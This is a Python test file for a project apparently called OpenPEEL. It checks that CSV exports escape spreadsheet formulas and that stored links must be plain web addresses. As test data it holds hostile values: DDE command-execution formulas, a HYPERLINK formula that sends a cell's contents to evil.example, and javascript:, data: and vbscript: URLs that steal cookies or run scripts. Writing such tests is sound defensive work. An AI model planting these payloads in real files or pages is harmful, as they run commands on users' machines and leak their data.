"""Text that tries to become code elsewhere: formulas in every CSV OpenPEEL writes, and links
that are not web addresses."""

from __future__ import annotations

import csv
import io
import re
from datetime import date
from pathlib import Path

import pytest
from typer.testing import CliRunner

from openpeel.assess import service
from openpeel.assess.bulk import load_yaml
from openpeel.assess.service import AssessmentError, checked_link
from openpeel.assess.store import Store
from openpeel.cli.app import app
from openpeel.csvsafe import frame_csv, safe_cell, write_csv
from openpeel.sample import assessments_path
from openpeel.warehouse.db import Warehouse

FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
]


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_formula_cell_is_written_as_text(cell: str) -> None:
    out = io.StringIO()
    write_csv(out, ["text"], [[cell]])
    read = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert read[1] == ["'" + cell]


@pytest.mark.parametrize("value", [-1.5, 0, "-1.5", "+3", "1e-3", "plain text", "", None, "a=b"])
def test_numbers_and_plain_text_are_written_as_they_are(value: object) -> None:
    assert safe_cell(value) == value


def test_a_data_frame_as_csv_is_neutralised_and_keeps_its_numbers() -> None:
    import pandas as pd

    frame = pd.DataFrame({"name": ["=1+1", "Kent"], "value": [-2.5, None]})
    assert frame_csv(frame) == "name,value\n'=1+1,-2.5\nKent,\n"


#: where a CSV is written for people; each goes through openpeel.csvsafe
CSV_WRITERS = re.compile(r"csv\.writer\(|csv\.DictWriter\(|\.to_csv\(|FORMAT\s*'?CSV", re.I)
#: the one writer that must keep cells exactly: sheets unpacked for the loader to read back
# files the loader reads back, whose cells must stay exact: a spreadsheet's sheets as CSV, and
# the line-by-line reading of a file DuckDB could not read (ingest/guard.py)
EXEMPT = {"src/openpeel/sources/_spreadsheets.py", "src/openpeel/ingest/guard.py"}


def test_every_csv_written_goes_through_the_one_helper() -> None:
    root = Path(__file__).resolve().parents[2]
    found = {
        str(p.relative_to(root))
        for folder in ("src", "scripts", "benchmarks")
        for p in (root / folder).rglob("*.py")
        if CSV_WRITERS.search(p.read_text(encoding="utf-8"))
    }
    assert found - EXEMPT == {"src/openpeel/csvsafe.py"}


def test_assess_show_as_csv_neutralises_a_finding_s_formula(
    sample_home: Path, tmp_path: Path
) -> None:
    home = tmp_path / "home"
    home.mkdir()
    (home / "warehouse.duckdb").write_bytes((sample_home / "warehouse.duckdb").read_bytes())
    store = Store.open(home)
    with Warehouse(home, read_only=True) as wh, store.session() as s:
        a = load_yaml(s, wh, assessments_path() / "hampshire-2016.yaml", "tester").assessment
        service.add_finding(s, a, "strength", FORMULAS[0], "tester", pillar="effectiveness")
    store.close()
    shown = CliRunner().invoke(
        app,
        ["assess", "show", "--force", "Hampshire", "--edition", "2016", "--home", str(home),
         "--format", "csv"],
        env={"OPENPEEL_DATABASE_URL": ""},
    )  # fmt: skip
    assert shown.exit_code == 0, shown.output
    cells = [c for row in csv.reader(io.StringIO(shown.output)) for c in row]
    assert "'" + FORMULAS[0] in cells
    assert not any(c.startswith(("=", "+", "@")) for c in cells)


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(document.cookie)",
        " JaVaScRiPt:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:msgbox(1)",
        "//evil.example/x",
        "https://",
        "https://example.org/a b",
    ],
)
def test_a_link_that_is_not_a_web_address_is_refused_when_stored(
    assessments: Store, sample_home: Path, url: str
) -> None:
    with pytest.raises(AssessmentError, match="only http:// and https:// links"):
        checked_link(url)
    with Warehouse(sample_home, read_only=True) as wh, assessments.session() as s:
        a = load_yaml(s, wh, assessments_path() / "hampshire-2016.yaml", "tester").assessment
        with pytest.raises(AssessmentError, match="response's link"):
            service.record_response(
                s, a, "chief constable", "tester", received_on=date(2017, 5, 1), url=url
            )
        with pytest.raises(AssessmentError, match="document's link"):
            service.add_document_evidence(s, a, "A document", "tester", url=url)
        assert all(r.url is None for r in a.responses)


def test_a_web_address_is_kept() -> None:
    assert checked_link(" https://www.hampshire.police.uk/r.pdf ") == (
        "https://www.hampshire.police.uk/r.pdf"
    )
    assert checked_link("") is None
